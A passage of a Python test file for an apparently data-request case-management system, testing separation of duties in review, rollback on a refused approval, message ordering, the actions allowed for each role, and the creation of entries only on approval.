    before = (event_count(session), len(message_jobs(session)))
    with pytest.raises(errors.OwnDraft):
        review.approve(session, case, actor=CASEWORKER)
    session.rollback()
    assert (event_count(session), len(message_jobs(session))) == before
    assert session.get(Case, case.id).state == CaseState.IN_REVIEW


# Messages and next steps ---------------------------------------------------------------


def test_messages_for_the_requester_are_newest_first(session):
    case = filed(session)
    identity.request_identity(session, case, what_is_needed="Photo ID", actor=CASEWORKER)
    identity.accept_identity(
        session, case, evidence_arrived_on=date(2026, 3, 2), actor=CASEWORKER, now=MONDAY
    )
    deadlines.extend(session, case, reason="Complex", actor=CASEWORKER, now=MONDAY)
    kinds = [m.kind for m in messages.messages_for(session, case)]
    assert kinds == [MessageKind.EXTENSION_NOTICE, MessageKind.IDENTITY_REQUEST]
    assert [job.payload["message_id"] for job in message_jobs(session)] == [
        m.id for m in case_messages(session, case)
    ]


def test_every_message_kind_documents_its_params():
    assert set(messages.message_text_keys) == set(MessageKind)


def test_the_case_page_offers_only_what_the_rules_allow(session):
    received = filed(session)
    offered = allowed_actions(session, received, today=date(2026, 3, 2))
    assert {Action.ACCEPT_IDENTITY, Action.REQUEST_IDENTITY, Action.REFUSE} <= offered
    assert Action.SUBMIT_FOR_REVIEW not in offered
    assert Action.EXTEND not in offered  # no clock yet

    case = in_review(session)
    own = allowed_actions(session, case, actor=CASEWORKER, actor_role="caseworker")
    assert Action.APPROVE not in own
    assert Action.REFUSE not in own
    other = allowed_actions(session, case, actor=REVIEWER, actor_role="reviewer")
    assert {Action.APPROVE, Action.RETURN_FOR_CHANGES, Action.REFUSE} <= other
    assert Action.EXTEND not in allowed_actions(session, case, today=date(2026, 4, 3))

    closing.record_withdrawal(session, received, actor=CASEWORKER, how_received="letter")
    assert allowed_actions(session, received) == {Action.ADD_NOTE}


def test_entries_are_created_only_on_approval(session):
    case = assessed(session)
    propose(session, case, DecisionOutcome.UPHELD, [])
    assert session.scalar(select(func.count(RestrictionEntry.id))) == 0
